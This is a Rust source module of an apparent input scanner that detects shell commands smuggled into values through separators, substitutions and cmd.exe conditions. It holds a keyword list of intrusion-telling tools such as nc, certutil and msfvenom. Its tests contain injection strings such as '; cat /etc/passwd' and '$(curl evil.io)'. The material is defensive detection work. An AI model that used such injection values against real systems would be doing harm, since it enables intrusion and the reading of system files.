//! Shell commands smuggled into values: a separator or a substitution, then a command (POSIX
//! Shell Command Language sections 2.9 and 2.6.3; cmd.exe and PowerShell likewise).

mod names;

use crate::{effort::Effort, limits::COMMAND_COST_BYTES};

use super::{Signal, Signals};
use names::{is_english, is_known, is_talking};

/// Signs between a separator and the command behind it.
const BEFORE_COMMAND: [char; 10] = [' ', '&', '|', ';', '`', '(', '\n', ',', '{', '@'];

/// Notes each separator or substitution in folded text that is followed by a command.
pub(super) fn recognise(text: &str, signals: &mut Signals, effort: &Effort) {
    let bytes = text.as_bytes();
    let table = text.bytes().filter(|b| *b == b'|').count() >= 4;
    let mut commands = Commands::of(text);
    let mut ticks = 0_usize;
    for (at, byte) in bytes
        .iter()
        .enumerate()
        .filter(|(_, byte)| separates(**byte))
    {
        let next = bytes.get(at + 1);
        let opens = match byte {
            b'|' => !table || next == Some(&b'|'),
            b'\n' => !table,
            // The first of a pair opens; three in a row are markdown.
            b'`' => {
                let doubled = next == Some(&b'`') || (at > 0 && bytes.get(at - 1) == Some(&b'`'));
                ticks += usize::from(!doubled);
                !doubled && ticks % 2 == 1
            }
            b'(' => at > 0 && matches!(bytes.get(at - 1), Some(b'$' | b'<' | b'>' | b'`')),
            b'\\' => next == Some(&b'n'),
            b'{' => next.is_some_and(|b| *b == b',') || at == 0,
            _ => true,
        };
        if !opens {
            continue;
        }
        let from = at + if *byte == b'\\' { 2 } else { 1 };
        let alone = *byte != b'\n' && *byte != b'&';
        if commands.begins_at(from, alone, effort) {
            signals.put(Signal::ShellInjection, at);
        }
    }
    if is_batch_condition(text) || (commands.begins_at(0, true, effort) && is_telling(text)) {
        signals.put(Signal::ShellCommand, 0);
    }
    // A quote closed at the start, then a command: what a value in quotes is broken with.
    let broken = text.trim_start_matches(['\'', '"', ')', ' ']);
    let from = text.len() - broken.len();
    if from > 0 && text.starts_with(['\'', '"']) && commands.begins_at(from, false, effort) {
        signals.put(Signal::ShellInjection, 0);
    }
}

/// Notes a loop or condition of cmd.exe, whose words may pass for a sentence's.
pub(super) fn recognise_loop(text: &str, signals: &mut Signals) {
    let text = text.trim_start_matches(['&', '|', ';', ' ', '"', '\'']);
    if is_batch_condition(text) {
        signals.put(Signal::ShellCommand, 0);
    }
    let Some(rest) = text.strip_prefix("for") else {
        return;
    };
    if rest.starts_with(" /") || (rest.starts_with(" %") && rest.contains(" in ")) {
        signals.put(Signal::ShellCommand, 0);
    }
}

/// Whether the text is a condition of cmd.exe.
fn is_batch_condition(text: &str) -> bool {
    let text = text.trim_start_matches(['&', '|', ';', ' ', '"', '\'']);
    let Some(rest) = text
        .strip_prefix("if")
        .filter(|rest| rest.starts_with([' ', '/']))
    else {
        return false;
    };
    // What goes on with a parenthesis is a program's condition.
    if rest.trim_start().starts_with('(') {
        return false;
    }
    let rest = rest.trim_start();
    let rest = rest.strip_prefix("/i").map_or(rest, str::trim_start);
    let rest = rest.strip_prefix("not ").map_or(rest, str::trim_start);
    let head: String = rest.chars().take(60).collect();
    let operator = ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "];
    ["exist ", "defined ", "errorlevel "]
        .iter()
        .any(|word| rest.starts_with(word))
        || operator.iter().any(|word| head.contains(word))
}

/// Whether the command that the text begins with tells of an intrusion by itself.
fn is_telling(text: &str) -> bool {
    const TELLING: &str = "whoami id ifconfig ipconfig systeminfo netstat tasklist uname net netsh \
        nc ncat netcat nslookup powershell pwsh iwr iex irm wmic certutil bitsadmin mshta regsvr32 \
        rundll32 cmd busybox cpulimit chef-client chef-shell chef-vault chef-solo ansible-config \
        ansible-console ansible-doc ansible-playbook ansible-vault cscli lastlogin uconv rmt \
        alias time nohup strace c89 c99 bash sh perl python php ruby socat msfvenom";
    let bare = text.trim_start_matches(['"', '\'', ' ']);
    let end = bare
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '/' | '_')))
        .unwrap_or(bare.len());
    let word = bare.get(..end).unwrap_or_default();
    word.starts_with("/bin/")
        || word.starts_with("/usr/bin/")
        || word.starts_with("/sbin/")
        || TELLING.split_ascii_whitespace().any(|name| name == word)
}

fn separates(byte: u8) -> bool {
    matches!(
        byte,
        b'|' | b'\n' | b';' | b'&' | b'`' | b'(' | b'\\' | b'{'
    )
}

/// The commands of a text. Asked from its beginning to its end, it reads each sign but once.
struct Commands<'t> {
    text: &'t str,
    /// Where the last sign stands that tells an argument from a word of a sentence.
    telling_to: usize,
    /// From where to where there are only signs that may stand before a command.
    before: (usize, usize),
    /// Where a command was looked for last, and what came of it when alone and when not.
    last: (usize, [Option<bool>; 2]),
}

impl<'t> Commands<'t> {
    fn of(text: &'t str) -> Self {
        Self {
            text,
            telling_to: text.rfind(['/', '\\', '=']).unwrap_or(0),
            before: (0, 0),
            last: (usize::MAX, [None; 2]),
        }
    }

    /// Whether at `from` a command begins, and what a command would have behind it.
    fn begins_at(&mut self, from: usize, alone: bool, effort: &Effort) -> bool {
        if !(self.before.0..self.before.1).contains(&from) {
            let rest = self.text.get(from..).unwrap_or_default();
            let command = rest.trim_start_matches(BEFORE_COMMAND);
            self.before = (from, self.text.len() - command.len());
        }
        let at = self.before.1;
        if self.last.0 != at {
            self.last = (at, [None; 2]);
        }
        let [known, other] = self.last.1;
        let known = if alone { other } else { known };
        known.unwrap_or_else(|| {
            let found = self.is_command(at, alone, effort);
            if let Some(last) = self.last.1.get_mut(usize::from(alone)) {
                *last = Some(found);
            }
            found
        })
    }

    fn is_command(&self, at: usize, alone: bool, effort: &Effort) -> bool {
        // Without this, every place would measure how far its word goes, and none could pay for it.
        if effort.is_exceeded() {
            return false;
        }
        let text = self.text.get(at..).unwrap_or_default();
        let text = ["time ", "sudo ", "exec ", "command ", "nohup ", "env "]
            .iter()
            .find_map(|prefix| text.strip_prefix(prefix))
            .unwrap_or(text);
        let quoted = text.trim_start_matches(['"', '\'']);
        let length = quoted.bytes().position(|b| !in_command(b));
        let length = length.unwrap_or(quoted.len());
        if !effort.spend(length.saturating_add(COMMAND_COST_BYTES)) {
            return false;
        }
        let Some((word, rest)) = quoted.split_at_checked(length) else {
            return false;
        };
        let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
        let name = name.strip_suffix(".exe").unwrap_or(name);
        let by_path = ["/bin/", "/sbin/", "/usr/bin/", "/usr/local/bin/"]
            .iter()
            .any(|dir| word.starts_with(dir));
        by_path || (is_known(name) && self.has_arguments(name, rest, alone))
    }

    /// Whether what stands behind a command's name is what a command would have there.
    fn has_arguments(&self, name: &str, rest: &str, alone: bool) -> bool {
        let argument = rest.trim_start_matches(['"', '\'', ' ', '+']);
        let first = argument.bytes().next();
        let spaced = rest.starts_with([' ', '+', '\'', '"', '$', '<', '{', '\t', '\n']);
        match first {
            None => !is_english(name) && (alone || name.len() >= 5),
            Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'>' | b'<' | b'\n' | b'}') => {
                !is_english(name)
            }
            Some(b'-' | b'/' | b'$' | b'%' | b'~' | b'\\' | b'*' | b'.' | b'?' | b'{') => spaced,
            Some(b'0'..=b'9') => spaced && matches!(name, "sleep" | "ping" | "timeout" | "kill"),
            Some(b'a'..=b'z') => {
                spaced
                    && (is_talking(name)
                        || !is_english(name)
                        || self.telling_to > self.text.len() - argument.len()
                        || argument.starts_with("c:"))
            }
            _ => false,
        }
    }
}

fn in_command(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b':' | b'\\')
}

#[cfg(test)]
mod tests {
    use super::super::{Signal, Signals};
    use super::{Effort, recognise};

    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    #[test]
    fn smuggled_commands_are_seen() {
        for (text, smuggled) in [
            ("; cat /etc/passwd", true),
            ("x|id", true),
            ("a && whoami", true),
            ("$(curl evil.io)", true),
            ("`sleep 5`", true),
            ("8.8.8.8; /bin/ls", true),
            ("x\nping -c 3 10.0.0.1", true),
            ("'; uname -a #", true),
            ("tea & cake", false),
            ("write; find it", false),
            ("a|b|c", false),
            ("cats && dogs", false),
            ("first; last", false),
        ] {
            let mut signals = Signals::default();
            recognise(text, &mut signals, &Effort::for_leaf(text.len()));
            assert_eq!(signals.contains(Signal::ShellInjection), smuggled, "{text}");
        }
    }
}
